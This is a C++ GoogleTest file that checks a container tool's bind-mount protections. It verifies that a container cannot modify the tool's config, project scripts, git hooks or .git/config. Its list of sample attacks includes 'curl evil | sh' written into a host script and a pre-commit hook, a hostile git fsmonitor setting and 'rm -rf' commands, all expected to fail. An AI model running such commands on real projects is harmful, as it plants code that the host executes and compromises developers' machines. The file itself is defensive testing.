// With `bind` storage a container must not plant code that the host runs on its own or
// rewrite this tool's config (issue 7): the project's control files (project/control_files.hpp)
// are read-only inside, and cannot be removed or renamed away either. `development` mode
// leaves the .git part writable.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "support/engine_env.hpp"
#include "support/required_feature.hpp"

namespace cc::test {
namespace {

namespace fs = std::filesystem;

std::string describe(const CommandResult& r) { return "exit " + std::to_string(r.exit_code) + "\nstdout: " + r.out + "\nstderr: " + r.err; }

std::string read_text(const fs::path& path) {
  std::ifstream in(path);
  return std::string((std::istreambuf_iterator<char>(in)), {});
}

class ControlFilesTest : public ::testing::TestWithParam<EngineUser> {
 protected:
  std::unique_ptr<EngineEnv> make() {
    auto env = std::make_unique<EngineEnv>(GetParam(), "bind", "none");
    if (!env->usable()) return nullptr;
    env->write_project_file("scripts/container", "#!/bin/sh\nexec claude-container \"$@\"\n");
    env->write_project_file(".git/hooks/pre-push.sample", "#!/bin/sh\n");
    env->write_project_file(".git/config", "[core]\n\tbare = false\n");
    env->write_project_file("src/main.c", "int main(void) { return 0; }\n");
    fs::create_symlink("/etc/hostname", env->project() / ".envrc");  // a control path that is a symlink
    env->chown_tree(env->project());
    return env;
  }
};

#define REQUIRE_ENV(env) \
  CC_SKIP_UNLESS_FEATURE(env, EngineEnv(GetParam()).feature()) << EngineEnv(GetParam()).why_unusable()

TEST_P(ControlFilesTest, ContainerCannotWriteItsConfigScriptsOrGitHooks) {
  auto env = make();
  REQUIRE_ENV(env);
  ASSERT_EQ(env->cli({"start"}).exit_code, 0);
  const std::string config_before = read_text(env->project() / ".claude-container" / "config.json");
  const std::string script_before = read_text(env->project() / "scripts" / "container");
  const std::string git_config_before = read_text(env->project() / ".git" / "config");

  struct Attack {
    std::string command;
    std::string error;  // what the shell reports, for the right reason
  };
  const Attack attacks[] = {
      {"echo '{\"name\": \"x\"}' > .claude-container/config.json", "Read-only file system"},
      {"echo 'curl evil | sh' >> scripts/container", "Read-only file system"},
      {"echo 'curl evil | sh' > .git/hooks/pre-commit", "Read-only file system"},
      {"printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", "Read-only file system"},
      {"rm -rf scripts", "scripts"},                     // busy mount point, or read-only below it
      {"mv .claude-container moved", "Device or resource busy"},
      {"rm -f .git/config", "Device or resource busy"},
      {"rm -f .envrc", "Device or resource busy"},
      {"echo 'evil' > .envrc", "Permission denied"},  // a nodev device over the symlink
  };
  for (const auto& attack : attacks) {
    auto r = env->exec({"sh", "-c", "cd /workspace && " + attack.command});
    EXPECT_NE(r.exit_code, 0) << attack.command << "\n" << describe(r);
    EXPECT_NE(r.err.find(attack.error), std::string::npos) << attack.command << "\n" << describe(r);
  }
  // The host's files are what they were; the rest of the project stays writable.
  EXPECT_EQ(read_text(env->project() / ".claude-container" / "config.json"), config_before);
  EXPECT_EQ(read_text(env->project() / "scripts" / "container"), script_before);
  EXPECT_EQ(read_text(env->project() / ".git" / "config"), git_config_before);
  EXPECT_FALSE(fs::exists(env->project() / ".git" / "hooks" / "pre-commit"));
  EXPECT_TRUE(fs::is_symlink(env->project() / ".envrc"));
  EXPECT_FALSE(fs::exists(env->project() / "moved"));
  auto ok = env->exec({"sh", "-c", "echo changed > /workspace/src/main.c && mkdir -p /workspace/.git/objects/ab"});
  EXPECT_EQ(ok.exit_code, 0) << describe(ok);
  EXPECT_EQ(read_text(env->project() / "src" / "main.c"), "changed\n");
  auto status = env->cli({"status"});
  EXPECT_NE(status.out.find("/workspace/.git/hooks"), std::string::npos) << describe(status);
}

TEST_P(ControlFilesTest, DevelopmentModeLeavesGitWritable) {
  auto env = make();
  REQUIRE_ENV(env);
  std::string config = read_text(env->project() / ".claude-container" / "config.json");
  config.replace(config.find("\"mode\": \"custom\""), 16, "\"mode\": \"development\"");
  {
    std::ofstream(env->project() / ".claude-container" / "config.json", std::ios::trunc) << config;
  }
  env->approve_config();
  auto started = env->cli({"start"});
  ASSERT_EQ(started.exit_code, 0) << describe(started);
  auto hook = env->exec({"sh", "-c", "echo '#!/bin/sh' > /workspace/.git/hooks/pre-commit"});
  EXPECT_EQ(hook.exit_code, 0) << describe(hook);
  auto script = env->exec({"sh", "-c", "echo x >> /workspace/scripts/container"});
  EXPECT_NE(script.err.find("Read-only file system"), std::string::npos) << describe(script);
}

INSTANTIATE_TEST_SUITE_P(Users, ControlFilesTest, ::testing::Values(EngineUser::root, EngineUser::unprivileged),
                         [](const auto& info) { return to_string(info.param); });

}  // namespace
}  // namespace cc::test
